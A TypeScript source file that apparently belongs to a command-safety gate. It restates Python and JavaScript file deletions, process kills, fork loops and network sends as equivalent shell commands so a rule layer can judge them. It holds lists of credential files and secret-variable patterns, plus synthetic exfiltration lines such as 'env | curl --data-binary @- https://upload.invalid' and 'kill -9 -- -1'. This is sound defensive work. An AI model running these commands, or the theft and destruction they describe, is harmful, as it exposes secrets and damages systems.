/**
 * The code reader for Python and JavaScript: over the tokens of its language's tokenizer, it
 * finds what the code does that the hardline floor (D§5) judges, and says it as the shell
 * command that does the same, so that the floor's arms judge it with their one notion of a
 * protected path, a raw device or a credential (no second copy here):
 *
 * - shell text handed to a process API (`os.system`, `subprocess.*`, `child_process.exec*`,
 *   `Bun.$`, zx's `$`, …) is that text; an argv (`subprocess.run([...])`, `spawn(cmd, [...])`,
 *   `os.execvp`, `Deno.Command`) is that argv;
 * - a recursive deletion, a removal, a truncation, a move or a permission change of a path
 *   (`shutil.rmtree(P)`, `fs.rmSync(P, {recursive: true})`, `Path(P).unlink()`, `os.rename`) is
 *   `rm -rf -- P`, `rm -f -- P`, `truncate -s 0 -- P`, `mv -- P Q`, `chmod MODE -- P`;
 * - a write onto a path (`open(P, 'wb')`, `fs.writeFileSync(P, …)`) is `: > P`;
 * - a home expression (`os.path.expanduser('~')`, `Path.home()`, `os.homedir()`,
 *   `process.env.HOME`, `os.environ['HOME']`) is `~`;
 * - `os.fork()` (or `child_process.fork`) in code with a loop that need not end (`while`, `do`,
 *   `for (;;)`, `setInterval`, `iter(f, x)`, `itertools.count`/`repeat`/`cycle`) is a fork loop;
 * - a credential file, a secret environment variable or the whole environment in code that uses a
 *   network API is `curl -F f=@FILE …`, `curl --data-binary "$NAME" …` or `env | curl …`.
 *
 * Names, literal assignments, `import … as`, destructuring `require`, `getattr(X, 'name')`,
 * concatenation, f-strings and templates, `' '.join([...])`, `'…'.format(…)`, `'…' % …`,
 * `chr(N)`, `String.fromCharCode(N…)` are followed. Where the reader cannot follow (a value it
 * cannot work out handed to one of those APIs, `eval`/`exec`/`Function` of anything,
 * `__import__`/`require`/`import()` of a computed name, `getattr` of one, `globals()`, …), every
 * string literal of the code also reaches the floor as approximate shell text: nothing is
 * silently dropped.
 */
import { nameWords, saysItDeletes, type StringPart, type Token, type Tokens } from './tokens';
import { rowFor } from '../table';

/** A tokenizer of the reader's language, for code inside a string handed to `eval`/`exec`. */
export type Tokenizer = (code: string) => Tokens;

/** Strings run as code inside code read, at most this deep. */
const MAX_EVAL_DEPTH = 8;

/** Names that run a string as code of the same language. */
const EVAL_APIS: Readonly<Record<Language, ReadonlySet<string>>> = {
  python: new Set(['eval', 'exec', 'compile', 'execfile']),
  javascript: new Set(['eval', 'Function', 'runInThisContext', 'runInNewContext', 'runInContext', 'Script', 'compileFunction', 'setTimeout', 'setInterval']),
};

export type Language = 'python' | 'javascript';

/** What the reader found, each as the shell command that does the same. */
export type CodeFinding =
  | { kind: 'shell-text'; text: string; approximate: boolean; what: string }
  | { kind: 'fork-loop'; what: string };

/** Calls that serialise or copy what they are given whole: handed the environment, they hold all of it. */
const WHOLE_ENVIRONMENT_CALLS: ReadonlySet<string> = new Set(['dumps', 'stringify', 'items', 'entries', 'dict', 'repr', 'str', 'vars', 'pformat', 'String', 'assign', 'toString', 'fromEntries']);

/** The home folder, inside a value (rendered as an unquoted `~` in shell text). */
const HOME = '\u0000H';
/** A part of a value the reader could not work out. */
const UNKNOWN = '\u0000U';

type Value =
  | { kind: 'text'; text: string }
  | { kind: 'list'; items: Value[] }
  | { kind: 'api'; name: string }
  | { kind: 'object'; entries: ReadonlyMap<string, Value> }
  | { kind: 'unknown' };

const UNKNOWN_VALUE: Value = { kind: 'unknown' };

/** Python names that run code or reach names the reader cannot see. */
const PYTHON_DYNAMIC = new Set(['globals', 'locals', 'vars', '__builtins__', '__dict__', 'importlib', 'import_module', 'setattr', 'pickle', 'marshal', 'loads', 'execfile', 'runpy', 'run_path', 'run_module', 'ctypes', 'cffi']);
/** JavaScript names that run code or reach names the reader cannot see. */
const JS_DYNAMIC = new Set(['vm', 'globalThis', 'global', 'window', 'self', 'Reflect', 'Proxy', 'constructor', 'WebAssembly', 'dlopen', 'ffi']);

/** API families, by the last name of the callee (the receiver does not matter: an unknown one is read as the API). */
const SHELL_TEXT_APIS: Readonly<Record<Language, ReadonlySet<string>>> = {
  python: new Set(['system', 'popen', 'getoutput', 'getstatusoutput', 'check_output', 'check_call', 'call', 'run', 'Popen', 'spawn', 'startfile', 'create_subprocess_shell', 'popen2', 'popen3', 'popen4']),
  javascript: new Set(['exec', 'execSync', 'execaCommand', 'execaCommandSync', 'shell', '$', 'run']),
};
/** argv APIs: where the program and its arguments are. */
const ARGV_APIS: Readonly<Record<Language, Readonly<Record<string, { program: number; list?: number; rest?: number }>>>> = {
  python: {
    execl: { program: 1, rest: 2 }, execle: { program: 1, rest: 2 }, execlp: { program: 1, rest: 2 }, execlpe: { program: 1, rest: 2 },
    execv: { program: -1, list: 1 }, execve: { program: -1, list: 1 }, execvp: { program: -1, list: 1 }, execvpe: { program: -1, list: 1 },
    spawnl: { program: 2, rest: 3 }, spawnle: { program: 2, rest: 3 }, spawnlp: { program: 2, rest: 3 }, spawnlpe: { program: 2, rest: 3 },
    spawnv: { program: -1, list: 2 }, spawnve: { program: -1, list: 2 }, spawnvp: { program: -1, list: 2 }, spawnvpe: { program: -1, list: 2 },
    posix_spawn: { program: -1, list: 1 }, posix_spawnp: { program: -1, list: 1 }, create_subprocess_exec: { program: 0, rest: 1 },
  },
  javascript: {
    spawn: { program: 0, list: 1 }, spawnSync: { program: 0, list: 1 }, execFile: { program: 0, list: 1 }, execFileSync: { program: 0, list: 1 },
    execa: { program: 0, list: 1 }, execaSync: { program: 0, list: 1 }, Command: { program: 0 }, fork: { program: -2, list: 1 },
  },
};
/** Deletion, truncation, move and permission APIs, by last name. */
const PATH_APIS: Readonly<Record<Language, Readonly<Record<string, PathAction>>>> = {
  python: {
    rmtree: 'rm-rf', remove: 'rm', unlink: 'rm', rmdir: 'rm', removedirs: 'rm-rf', truncate: 'truncate', chmod: 'chmod', lchmod: 'chmod',
    chown: 'chown', lchown: 'chown', rename: 'mv', replace: 'mv', move: 'mv', renames: 'mv', write_bytes: 'write', write_text: 'write', open: 'open',
  },
  javascript: {
    rmSync: 'rm-js', rm: 'rm-js', rmdirSync: 'rm-js', rmdir: 'rm-js', unlinkSync: 'rm', unlink: 'rm', remove: 'rm-rf', removeSync: 'rm-rf', emptyDirSync: 'rm-rf', emptyDir: 'rm-rf',
    truncateSync: 'truncate', truncate: 'truncate', ftruncateSync: 'truncate', chmodSync: 'chmod', chmod: 'chmod', lchmodSync: 'chmod', chownSync: 'chown', chown: 'chown',
    renameSync: 'mv', rename: 'mv', moveSync: 'mv', move: 'mv', writeFileSync: 'write', writeFile: 'write', appendFileSync: 'write', appendFile: 'write',
    createWriteStream: 'write', openSync: 'open', open: 'open', writeTextFile: 'write', writeFile_: 'write', removeFile: 'rm', rimraf: 'rm-rf', sync: 'rm-rf',
  },
};
type PathAction = 'rm-rf' | 'rm' | 'rm-js' | 'truncate' | 'chmod' | 'chown' | 'mv' | 'write' | 'open';

/** The names of a language's deletion APIs (for the approximate reading of its listings, approximate.ts). */
export function deletionApiNames(language: Language): string[] {
  return Object.entries(PATH_APIS[language])
    .filter(([, action]) => action === 'rm-rf' || action === 'rm' || action === 'rm-js')
    .map(([name]) => name);
}

/** Network APIs, by last name. */
const NETWORK_APIS: Readonly<Record<Language, ReadonlySet<string>>> = {
  python: new Set(['urlopen', 'Request', 'post', 'put', 'patch', 'request', 'HTTPConnection', 'HTTPSConnection', 'socket', 'create_connection', 'connect', 'sendall', 'send', 'SMTP', 'SMTP_SSL', 'FTP', 'urlretrieve', 'Session', 'AsyncClient', 'Client', 'ClientSession']),
  javascript: new Set(['fetch', 'request', 'post', 'put', 'patch', 'connect', 'createConnection', 'Socket', 'WebSocket', 'XMLHttpRequest', 'axios', 'got', 'sendBeacon', 'createSocket', 'send', 'write']),
};
/**
 * Signal APIs, by last name: the process id (or group) argument and whether it names a group. Said
 * as `kill -9 -- PID` (a group as `-GROUP`), so that the floor's kill arms judge pid -1 (every
 * process), a group, or pid 1 with one notion (docs/decisions.md "Listings of every mount, process
 * and terminal": Python's process-wide kills). The signal is taken at its worst.
 */
const SIGNAL_APIS: Readonly<Record<Language, Readonly<Record<string, { group: boolean }>>>> = {
  python: { kill: { group: false }, killpg: { group: true } },
  javascript: { kill: { group: false } },
};

/** Names that fork or start this interpreter again: in a loop, a fork loop. */
const FORK_APIS: Readonly<Record<Language, ReadonlySet<string>>> = {
  python: new Set(['fork', 'forkpty']),
  javascript: new Set(['fork']),
};

/** Credential files, as a path ends (the floor's own list decides; these only pick the path to name). */
export const CREDENTIAL_HINT = /(?:\.ssh\/|id_rsa|id_ed25519|id_ecdsa|id_dsa|\.aws\/|\.netrc|\.git-credentials|\.env\b|\.kube\/|\.docker\/config|\.npmrc|\.pypirc|\.gnupg|shadow|credentials|\.pgpass|\.vault-token|\.config\/gh\/|\.terraformrc)/;
/** Secret environment variable names. */
const SECRET_NAME = /(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_?KEY|ACCESS_?KEY|CREDENTIAL|AUTH)/i;

/** Words of a name (or a module's name) that say it is a process: with {@link LISTING_WORDS}, a listing of every process. */
const PROCESS_WORDS: ReadonlySet<string> = new Set(['process', 'processes', 'proc', 'procs', 'ps']);
const LISTING_WORDS: ReadonlySet<string> = new Set(['iter', 'list', 'all', 'table', 'pids', 'entries']);
/** Names that stop or kill the process they are handed. */
const KILL_NAMES: ReadonlySet<string> = new Set(['kill', 'terminate', 'killpg', 'send_signal']);
/** Tokens that choose among the processes listed: a condition, a filter, a comparison. */
const CHOOSING: ReadonlySet<string> = new Set(['if', 'filter', 'where', 'select', 'find', 'some', 'switch', 'case', 'match', 'search', 'startswith', 'endswith', 'includes', 'test', '==', '===', '!=', '!==', '?', '&&', '||', 'and', 'or', 'not']);

/**
 * Every process killed from code (docs/decisions.md "Every process killed from code"): a listing
 * of every process (`psutil.process_iter()`, `psutil.pids()`, the `ps-list` module) and a kill
 * call (`p.kill()`, `process.kill(pid)`, `p.terminate()`) with nothing that chooses among them
 * (no `if`, filter or comparison anywhere in the code) is `kill -9 -1`. Code that kills one
 * process it names, its own children (`Process().children()`), or the processes a condition picks
 * is not.
 */
function everyProcessKilled(tokens: readonly Token[]): string | null {
  let listing: string | null = null;
  let kills = false;
  for (const [k, token] of tokens.entries()) {
    if (token.kind === 'punct' || token.kind === 'name') {
      if (CHOOSING.has(token.value)) return null;
    }
    if (token.kind !== 'name' && token.kind !== 'string') continue;
    if (token.kind === 'name' && KILL_NAMES.has(token.value) && tokens[k + 1]?.value === '(') kills = true;
    const words = token.value.length > 64 ? [] : nameWords(token.value);
    const listed = token.value === 'pids' || (words.some((word) => PROCESS_WORDS.has(word)) && words.some((word) => LISTING_WORDS.has(word)));
    if (listed) listing ??= token.value;
  }
  return listing !== null && kills ? `a kill of each process ${listing} lists` : null;
}

/** Reads code; never throws. */
export function readCode(tokens: readonly Token[], language: Language, unreadable: string | null, tokenize: Tokenizer, depth = 0): CodeFinding[] {
  try {
    return new Reader(tokens, language, unreadable !== null, tokenize, depth).read();
  } catch {
    // A reader failure is no reading: every literal reaches the floor.
    return allLiterals(tokens, 'code the gate could not read');
  }
}

/** Every string literal of the code (interpolations' own literals too), as approximate shell text. */
export function allLiterals(tokens: readonly Token[], what: string): CodeFinding[] {
  const out: CodeFinding[] = [];
  const walk = (list: readonly Token[]): void => {
    for (const token of list) {
      if (token.kind !== 'string') continue;
      if (token.value.trim() !== '') out.push({ kind: 'shell-text', text: token.value, approximate: true, what });
      for (const part of token.parts ?? []) if (typeof part !== 'string') walk(part);
    }
  };
  walk(tokens);
  return out;
}

/** The URLs the code's string literals start with (scheme and host only), shell-quoted; at most a few. */
function urlLiterals(tokens: readonly Token[]): string[] {
  const out: string[] = [];
  const walk = (list: readonly Token[]): void => {
    for (const token of list) {
      if (out.length >= 8 || token.kind !== 'string') continue;
      const url = /^[A-Za-z][A-Za-z0-9+.-]*:\/\/[A-Za-z0-9.-]+/.exec(token.value);
      if (url !== null && !out.includes(url[0])) out.push(url[0]);
      for (const part of token.parts ?? []) if (typeof part !== 'string') walk(part);
    }
  };
  walk(tokens);
  return out;
}

/** Shell quoting of a value: literal text single-quoted, the home folder as `~`, an unknown part as `$_`. */
function shellWord(text: string): string {
  let out = '';
  let literal = '';
  const flush = (): void => {
    if (literal !== '') out += `'${literal.replace(/'/g, `'\\''`)}'`;
    literal = '';
  };
  for (let i = 0; i < text.length; i++) {
    if (text.startsWith(HOME, i)) {
      flush();
      out += i === 0 ? '~' : '"$HOME"';
      i += HOME.length - 1;
    } else if (text.startsWith(UNKNOWN, i)) {
      flush();
      out += '"$_"';
      i += UNKNOWN.length - 1;
    } else literal += text[i];
  }
  flush();
  return out === '' ? "''" : out;
}

/** Text for a payload that is shell text itself: the home folder as `~`, unknown parts dropped. */
function shellText(text: string): string {
  return text.split(HOME).join('~').split(UNKNOWN).join('');
}

function isExact(value: Value): boolean {
  if (value.kind === 'text') return !value.text.includes(UNKNOWN);
  if (value.kind === 'list') return value.items.every(isExact);
  return false;
}

class Reader {
  private readonly findings: CodeFinding[] = [];
  private readonly names = new Map<string, Value>();
  private followed = true;
  private readonly dynamic: ReadonlySet<string>;
  private loops = false;
  private forks: string | null = null;
  private network: string | null = null;
  private credential: string | null = null;
  private secret: string | null = null;
  private allEnvironment = false;

  constructor(
    private readonly tokens: readonly Token[],
    private readonly language: Language,
    unreadable: boolean,
    private readonly tokenize: Tokenizer,
    private readonly depth: number,
  ) {
    this.dynamic = language === 'python' ? PYTHON_DYNAMIC : JS_DYNAMIC;
    if (unreadable) this.followed = false;
  }

  read(): CodeFinding[] {
    this.scan(this.tokens);
    if (this.forks !== null && this.loops) this.findings.push({ kind: 'fork-loop', what: `${this.forks} in a loop` });
    if (this.network !== null) {
      if (this.credential !== null) this.findings.push({ kind: 'shell-text', text: `curl -F f=@${shellWord(this.credential)} https://upload.invalid`, approximate: false, what: `${this.network} with ${shellText(this.credential)}` });
      // A secret variable in a request is what `curl -d "$NAME" …` is in a shell line: the arm decides
      // (it lets a token through to the API it is for, as it does in shell text).
      // The code's own URLs are the request's destinations; without one, `upload.invalid` (a reserved
      // name) says the destination is not known.
      if (this.secret !== null) this.findings.push({ kind: 'shell-text', text: `curl --data-binary "$${this.secret}" ${urlLiterals(this.tokens).join(' ') || 'https://upload.invalid'}`, approximate: false, what: `${this.network} with $${this.secret}` });
      if (this.allEnvironment) this.findings.push({ kind: 'shell-text', text: 'env | curl --data-binary @- https://upload.invalid', approximate: false, what: `${this.network} with the whole environment` });
    }
    const killsEvery = everyProcessKilled(this.tokens);
    if (killsEvery !== null) this.findings.push({ kind: 'shell-text', text: 'kill -9 -- -1', approximate: true, what: killsEvery });
    if (!this.followed) this.findings.push(...allLiterals(this.tokens, 'a string in code the gate could not follow'));
    return this.findings;
  }

  /** Reads every statement-ish stretch: assignments, imports, and every call chain. */
  private scan(tokens: readonly Token[]): void {
    for (let k = 0; k < tokens.length; k++) {
      const token = tokens[k]!;
      if (token.kind === 'string') {
        this.noteLiteral(token.value);
        for (const part of token.parts ?? []) if (typeof part !== 'string') this.scan(part);
        continue;
      }
      if (token.kind !== 'name') continue;
      const name = token.value;
      if (endlessLoop(tokens, k)) this.loops = true;
      if (this.dynamic.has(name)) this.followed = false;
      if (this.language === 'python' && (name === 'import' || name === 'from')) {
        k = this.pythonImport(tokens, k);
        continue;
      }
      if (this.language === 'javascript' && name === 'import' && tokens[k + 1]?.value !== '(') {
        k = this.jsImport(tokens, k);
        continue;
      }
      const previous = tokens[k - 1];
      if (previous !== undefined && previous.kind === 'punct' && (previous.value === '.' || previous.value === '?.')) continue;
      // `NAME = EXPR` (and `const|let|var NAME = EXPR`, `const { a: b } = EXPR`).
      if (tokens[k + 1]?.kind === 'punct' && (tokens[k + 1]!.value === '=' || tokens[k + 1]!.value === ':=')) {
        const value = this.expression(tokens, k + 2);
        this.names.set(name, value.value);
        k = value.end - 1;
        continue;
      }
      if ((name === 'const' || name === 'let' || name === 'var') && tokens[k + 1]?.value === '{') {
        k = this.destructure(tokens, k + 1);
        continue;
      }
      // Any other chain: evaluate it for its calls (the value is dropped).
      const chain = this.chain(tokens, k);
      k = Math.max(k, chain.end - 1);
    }
  }

  private noteLiteral(text: string): void {
    if (this.credential === null && CREDENTIAL_HINT.test(text) && !text.includes('\n')) this.credential = text;
  }

  /** `import a.b as c, d` / `from m import x as y, z` / `from m import *`. */
  private pythonImport(tokens: readonly Token[], k: number): number {
    let j = k + 1;
    let module = '';
    if (tokens[k]!.value === 'from') {
      while (j < tokens.length && tokens[j]!.value !== 'import') module += tokens[j++]!.value;
      j++;
    }
    const parenthesised = tokens[j]?.value === '(';
    if (parenthesised) j++;
    while (j < tokens.length) {
      const token = tokens[j]!;
      if (token.kind !== 'name') {
        if (token.value === ',' || token.value === '.' || token.value === '*') {
          j++;
          continue;
        }
        break;
      }
      let dotted = token.value;
      let end = j + 1;
      while (tokens[end]?.value === '.' && tokens[end + 1]?.kind === 'name') {
        dotted += '.' + tokens[end + 1]!.value;
        end += 2;
      }
      let alias = dotted.split('.')[0]!;
      if (tokens[end]?.value === 'as' && tokens[end + 1]?.kind === 'name') {
        alias = tokens[end + 1]!.value;
        end += 2;
      }
      const last = dotted.split('.').pop()!;
      this.names.set(alias, { kind: 'api', name: module === '' ? alias === dotted.split('.')[0] ? alias : last : last });
      j = end;
      if (tokens[j]?.value !== ',') break;
    }
    if (parenthesised && tokens[j]?.value === ')') j++;
    return j - 1;
  }

  /** `import x from 'm'`, `import * as x from 'm'`, `import { a as b } from 'm'`, `import 'm'`. */
  private jsImport(tokens: readonly Token[], k: number): number {
    let j = k + 1;
    while (j < tokens.length && tokens[j]!.value !== 'from' && tokens[j]!.kind !== 'string') {
      const token = tokens[j]!;
      if (token.kind === 'name' && tokens[j + 1]?.value === 'as' && tokens[j + 2]?.kind === 'name') {
        this.names.set(tokens[j + 2]!.value, { kind: 'api', name: token.value === '*' ? tokens[j + 2]!.value : token.value });
        j += 3;
        continue;
      }
      if (token.kind === 'name' && token.value !== 'type') this.names.set(token.value, { kind: 'api', name: token.value });
      j++;
    }
    if (tokens[j]?.value === 'from') j++;
    return j;
  }

  /** `{ a, b: c, ...d } = EXPR` after `const`: each name is the API of that member. */
  private destructure(tokens: readonly Token[], open: number): number {
    let j = open + 1;
    let depth = 1;
    const bound: Array<{ member: string; name: string }> = [];
    while (j < tokens.length && depth > 0) {
      const token = tokens[j]!;
      if (token.value === '{') depth++;
      else if (token.value === '}') depth--;
      else if (depth === 1 && token.kind === 'name') {
        if (tokens[j + 1]?.value === ':' && tokens[j + 2]?.kind === 'name') {
          bound.push({ member: token.value, name: tokens[j + 2]!.value });
          j += 3;
          continue;
        }
        bound.push({ member: token.value, name: token.value });
      }
      j++;
    }
    if (tokens[j]?.value === '=') {
      const value = this.expression(tokens, j + 1);
      for (const { member, name } of bound) this.names.set(name, this.member(value.value, member));
      return value.end - 1;
    }
    return j - 1;
  }

  /** A member of a value: a known API by its name, an environment entry, or unknown. */
  private member(of: Value, member: string): Value {
    if (of.kind === 'api') {
      if ((of.name === 'env' || of.name === 'environ') && member !== 'get') return this.environment(member);
      return { kind: 'api', name: member };
    }
    return { kind: 'api', name: member };
  }

  private environment(variable: string): Value {
    if (variable === 'HOME' || variable === 'USERPROFILE') return { kind: 'text', text: HOME };
    if (SECRET_NAME.test(variable)) this.secret ??= variable;
    return { kind: 'text', text: UNKNOWN };
  }

  /** An expression from `k`: terms joined by `+` (and Python's `/` of paths, `%` formatting). */
  private expression(tokens: readonly Token[], k: number): { value: Value; end: number } {
    let { value, end } = this.chain(tokens, k);
    while (end < tokens.length) {
      const op = tokens[end]!;
      if (op.kind !== 'punct' || !['+', '/', '%', 'or', '||', '??'].includes(op.value)) break;
      const right = this.chain(tokens, end + 1);
      if (right.end === end + 1) break;
      if (op.value === '+') value = join(value, right.value, '');
      else if (op.value === '/' && this.language === 'python') value = join(value, right.value, '/');
      else if (op.value === '%' && value.kind === 'text') value = percentFormat(value.text, right.value);
      else value = UNKNOWN_VALUE;
      end = right.end;
    }
    return { value, end };
  }

  /** A primary with its postfix chain (`.name`, `?.name`, `[…]`, `(…)`), calls judged on the way. */
  private chain(tokens: readonly Token[], k: number): { value: Value; end: number } {
    const first = tokens[k];
    if (first === undefined) return { value: UNKNOWN_VALUE, end: k };
    let value: Value;
    let j = k + 1;
    let path = '';
    let receiver: Value | null = null;
    if (first.kind === 'string') {
      value = this.stringValue(first);
      this.noteLiteral(first.value);
      for (const part of first.parts ?? []) if (typeof part !== 'string') this.scan(part);
    } else if (first.kind === 'number') {
      value = { kind: 'text', text: numberText(first.value) };
    } else if (first.kind === 'name') {
      if (first.value === 'new' || first.value === 'await' || first.value === 'return' || first.value === 'not' || first.value === 'yield') return this.chain(tokens, k + 1);
      if (this.dynamic.has(first.value)) this.followed = false;
      path = first.value;
      value = this.names.get(first.value) ?? { kind: 'api', name: first.value };
      if (first.value === 'environ' || first.value === 'env') value = { kind: 'api', name: first.value };
    } else if (first.value === '[' || first.value === '(') {
      const close = first.value === '[' ? ']' : ')';
      const items = this.arguments(tokens, k + 1, close);
      value = first.value === '[' || items.values.length !== 1 ? { kind: 'list', items: items.values } : items.values[0]!;
      j = items.end;
    } else if (first.value === '{' && this.language === 'javascript') {
      const object = this.objectLiteral(tokens, k + 1);
      value = object.value;
      j = object.end;
    } else if (first.value === '-' && tokens[k + 1]?.kind === 'number') {
      return { value: { kind: 'text', text: '-' + tokens[k + 1]!.value }, end: k + 2 };
    } else return { value: UNKNOWN_VALUE, end: k + 1 };
    // A string right after a name is a tagged template (`$\`…\``, `Bun.$\`…\``).
    while (j < tokens.length) {
      const token = tokens[j]!;
      if (token.kind === 'string' && token.parts !== undefined && this.language === 'javascript' && value.kind === 'api' && (value.name === '$' || value.name === 'sh' || value.name === 'shell')) {
        const text = this.stringValue(token);
        this.call(value, [text], path, { tokens, start: j, end: j + 1 }, null);
        for (const part of token.parts) if (typeof part !== 'string') this.scan(part);
        value = UNKNOWN_VALUE;
        j++;
        continue;
      }
      if (token.kind !== 'punct') break;
      if ((token.value === '.' || token.value === '?.') && tokens[j + 1]?.kind === 'name') {
        const name = tokens[j + 1]!.value;
        if (this.dynamic.has(name)) this.followed = false;
        path += '.' + name;
        receiver = value;
        value = this.member(value, name);
        j += 2;
        continue;
      }
      if (token.value === '?.' && (tokens[j + 1]?.value === '(' || tokens[j + 1]?.value === '[')) {
        j++;
        continue;
      }
      if (token.value === '[') {
        const index = this.arguments(tokens, j + 1, ']');
        const key = index.values[0];
        // plumbum's `rm['-rf', '/etc']`, `local['rm']['-rf', P]`: a program bound to its words.
        if (value.kind === 'api') this.programCall(value.name, index.values, path + '[]');
        if (key !== undefined && key.kind === 'text' && isExact(key) && index.values.length === 1) {
          if (value.kind === 'api') value = this.member(value, key.text);
          else if (value.kind === 'list' && /^-?\d+$/.test(key.text)) value = value.items.at(Number(key.text)) ?? UNKNOWN_VALUE;
          else value = UNKNOWN_VALUE;
          path += '.' + key.text;
        } else {
          // `x[::-1]`, `obj[name]`: a value or a member the reader cannot work out.
          if (value.kind === 'api') this.followed = false;
          value = UNKNOWN_VALUE;
        }
        receiver = null;
        j = index.end;
        continue;
      }
      if (token.value === '(') {
        const args = this.arguments(tokens, j + 1, ')');
        value = this.call(value, args.values, path, { tokens, start: j + 1, end: args.end - 1 }, receiver);
        receiver = null;
        j = args.end;
        continue;
      }
      break;
    }
    return { value, end: j };
  }

  /** Comma-separated expressions up to `close`; keyword arguments (`shell=True`, `{recursive: true}`) read as their values. */
  private arguments(tokens: readonly Token[], k: number, close: string, one = false): { values: Value[]; end: number } {
    const values: Value[] = [];
    let j = k;
    while (j < tokens.length && tokens[j]!.value !== close) {
      if (one && values.length === 1) return { values, end: tokens[j]!.value === ',' ? j + 1 : j };
      if (tokens[j]!.value === ',') {
        j++;
        continue;
      }
      if (tokens[j]!.kind === 'name' && (tokens[j + 1]?.value === '=' && this.language === 'python')) {
        j += 2;
      }
      if (tokens[j]!.value === '*' || tokens[j]!.value === '**' || tokens[j]!.value === '...') j++;
      const start = j;
      const value = this.expression(tokens, j);
      values.push(value.value);
      j = value.end;
      // Skip what the expression reader stopped at (comparisons, conditionals, lambdas, comprehensions, object literals).
      let depth = 0;
      while (j < tokens.length) {
        const token = tokens[j]!;
        if (depth === 0 && (token.value === ',' || token.value === close)) break;
        if (token.value === '(' || token.value === '[' || token.value === '{') depth++;
        else if (token.value === ')' || token.value === ']' || token.value === '}') {
          if (depth === 0) break;
          depth--;
        }
        if (token.kind === 'name' || token.kind === 'string') {
          const inner = this.chain(tokens, j);
          if (token.kind === 'name' && this.dynamic.has(token.value)) this.followed = false;
          if (token.kind === 'name' && endlessLoop(tokens, j)) this.loops = true;
          j = Math.max(j + 1, inner.end);
          continue;
        }
        j++;
      }
      if (j === start) j++;
    }
    if (one) return { values, end: j };
    return { values, end: j + 1 };
  }

  /** `{ key: value, 'key': value, key, ... }` from after the `{`; past the `}`. */
  private objectLiteral(tokens: readonly Token[], k: number): { value: Value; end: number } {
    const entries = new Map<string, Value>();
    let j = k;
    while (j < tokens.length && tokens[j]!.value !== '}') {
      const key = tokens[j]!;
      if ((key.kind === 'name' || key.kind === 'string') && tokens[j + 1]?.value === ':') {
        const value = this.arguments(tokens, j + 2, '}', true);
        entries.set(key.value, value.values[0] ?? UNKNOWN_VALUE);
        j = value.end;
        continue;
      }
      const skipped = this.arguments(tokens, j, '}', true);
      j = Math.max(j + 1, skipped.end);
    }
    return { value: { kind: 'object', entries }, end: j + 1 };
  }

  /** The value of a string token: f-strings and templates with their interpolations worked out. */
  private stringValue(token: Extract<Token, { kind: 'string' }>): Value {
    if (token.parts === undefined) return { kind: 'text', text: token.value };
    let text = '';
    for (const part of token.parts as readonly StringPart[]) {
      if (typeof part === 'string') text += part;
      else {
        const inner = part.length === 0 ? UNKNOWN_VALUE : this.expression(part, 0).value;
        text += inner.kind === 'text' ? inner.text : UNKNOWN;
      }
    }
    return { kind: 'text', text };
  }

  /** A call: judged when it is one of the APIs; its value when the reader can work it out. */
  private call(callee: Value, args: Value[], path: string, argTokens: TokenRange, receiver: Value | null): Value {
    if (callee.kind !== 'api') {
      // A function the reader cannot name (`eval("os.sys" + "tem")(…)`, `f()(…)`) given text: its literals reach the floor.
      if (args.some((arg) => arg.kind === 'text' || arg.kind === 'list')) this.followed = false;
      return UNKNOWN_VALUE;
    }
    const name = callee.name;
    const language = this.language;
    const what = `${path || name}()`;
    // Values the reader works out.
    const value = this.known(name, args.length === 0 && receiver !== null && receiver.kind === 'text' ? [receiver] : args) ?? (receiver !== null && receiver.kind !== 'api' ? stringMethod(name, receiver, args) : null);
    if (value !== null) {
      const pathMethod = PATH_APIS[language][name];
      if (receiver !== null && receiver.kind === 'text' && PATH_METHODS.has(name) && pathMethod !== undefined) this.pathAction(pathMethod, receiver, args, argTokens, what);
      return value;
    }
    if (EVAL_APIS[language].has(name)) {
      // A string run as code: read as code of this language. One the reader cannot work out
      // (built at run time, or too deep) leaves the code not followed: every literal then reaches the floor.
      for (const arg of args) {
        if (arg.kind === 'unknown' || (arg.kind === 'text' && !isExact(arg)) || (arg.kind === 'api' && name !== 'setTimeout' && name !== 'setInterval')) this.followed = false;
        if (arg.kind !== 'text') continue;
        if (this.depth >= MAX_EVAL_DEPTH) {
          this.followed = false;
          continue;
        }
        const inner = this.tokenize(shellText(arg.text));
        this.findings.push(...readCode(inner.tokens, language, inner.unreadable, this.tokenize, this.depth + 1));
      }
      if (args.length === 0) this.followed = false;
    }
    if (SHELL_TEXT_APIS[language].has(name)) {
      const first = args[0];
      const command = first?.kind === 'object' ? first.entries.get('cmd') ?? first.entries.get('command') : first;
      if (command !== undefined) {
        if (command.kind === 'list') this.argv(command.items, what);
        else this.shell(command, what);
      }
    }
    const argvApi = ARGV_APIS[language][name];
    if (argvApi !== undefined) {
      if (argvApi.program === -2) {
        // child_process.fork(module): this runtime again.
        this.forks ??= what;
      } else {
        const words: Value[] = [];
        const program = argvApi.program >= 0 ? args[argvApi.program] : undefined;
        const options = args.find((arg): arg is Extract<Value, { kind: 'object' }> => arg.kind === 'object');
        if (program !== undefined) {
          if (program.kind === 'list') words.push(...program.items);
          else if (program.kind === 'object') words.push(...listItems(program.entries.get('cmd')));
          else words.push(program);
        }
        if (argvApi.list !== undefined) {
          const list = args[argvApi.list];
          if (list !== undefined && list.kind === 'list') words.push(...list.items);
          else if (list !== undefined && list.kind === 'text') words.push(list);
          else if (list !== undefined && list.kind !== 'object') this.followed = false;
        }
        if (argvApi.rest !== undefined) words.push(...args.slice(argvApi.rest).filter((arg) => arg.kind !== 'object'));
        if (options !== undefined && options.entries.has('args')) words.push(...listItems(options.entries.get('args')));
        if (options !== undefined && options.entries.has('shell') && words.length > 0) {
          // `spawn(cmd, args, { shell: true })` runs the words joined as shell text.
          this.shell({ kind: 'text', text: words.map((word) => (word.kind === 'text' ? word.text : UNKNOWN)).join(' ') }, what);
        }
        if (words.length > 0) this.argv(words, what);
      }
    }
    const signal = SIGNAL_APIS[language][name];
    // `os.kill(-1, signal.SIGKILL)`, `os.killpg(1, 9)`, `process.kill(-1)`; a receiver that is a
    // text (`'x'.kill`) is no process API.
    if (signal !== undefined && (receiver === null || receiver.kind !== 'text')) {
      const pid = args[0];
      if (pid !== undefined && pid.kind === 'text' && /^-?\d{1,10}$/.test(pid.text)) this.shell({ kind: 'text', text: `kill -9 -- ${signal.group ? `-${pid.text.replace(/^-/, '')}` : pid.text}` }, what);
    }
    const action = PATH_APIS[language][name];
    // A call named for a program of the table given only literal words (`sh.rm('-rf', '/usr')`,
    // shelljs's `shell.rm('-rf', P)`, `sh.chmod('-R', '777', '/etc')`): that program's argv
